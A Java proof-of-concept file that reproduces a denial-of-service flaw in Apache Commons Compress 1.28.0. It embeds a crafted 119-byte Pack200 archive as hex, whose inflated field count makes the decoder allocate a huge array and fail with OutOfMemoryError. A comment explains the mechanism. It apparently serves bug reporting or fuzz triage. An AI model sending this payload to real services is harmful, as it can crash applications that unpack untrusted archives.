import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import org.apache.commons.compress.compressors.pack200.Pack200CompressorInputStream;

/**
 * A 119-byte Pack200 archive (one class) whose class_field_count is the 5-byte value fe fc fc fc fc (about 2^31) and whose
 * field_descr band starts with the escape value 03 (-2 in DELTA5 = canonical codec #1, BYTE1). BandSet.decodeBandInt then calls
 * BHSDCodec.decodeInts(count) which allocates new int[count] before reading a single value (Codec.check only bounds n for a
 * BoundedInputStream) -> OutOfMemoryError at Codec.decodeInts(Codec.java:146).
 * Public entry: new Pack200CompressorInputStream(InputStream) (commons-compress 1.28.0), which unpacks the archive in its
 * constructor; corrupt input should fail with IOException (Pack200Exception), not an unchecked exception or Error.
 */
public class Pack200HugeCountCanonicalEscape {
    static final String HEX = ""
        + "cafed00d0796d5000000000001000107000201010001000000310100000000000306040601102829563c696e69743e48"
        + "4848484d7941747472516a6176612f6c616e672f4f626a65637405010204000200680403000200fefcfcfcfc0203c1fd"
        + "1cc1fdfc7c010203040200e4b1ff000000f0e1d2c4d303";

    public static void main(String[] args) throws Exception {
        byte[] b = new byte[HEX.length() / 2];
        for (int i = 0; i < b.length; i++) {
            b[i] = (byte) Integer.parseInt(HEX.substring(2 * i, 2 * i + 2), 16);
        }
        try (InputStream in = new Pack200CompressorInputStream(new ByteArrayInputStream(b))) {
            in.readAllBytes();
            System.out.println("no exception");
        } catch (IOException e) {
            System.out.println("IOException (the documented failure): " + e);
        }
    }
}
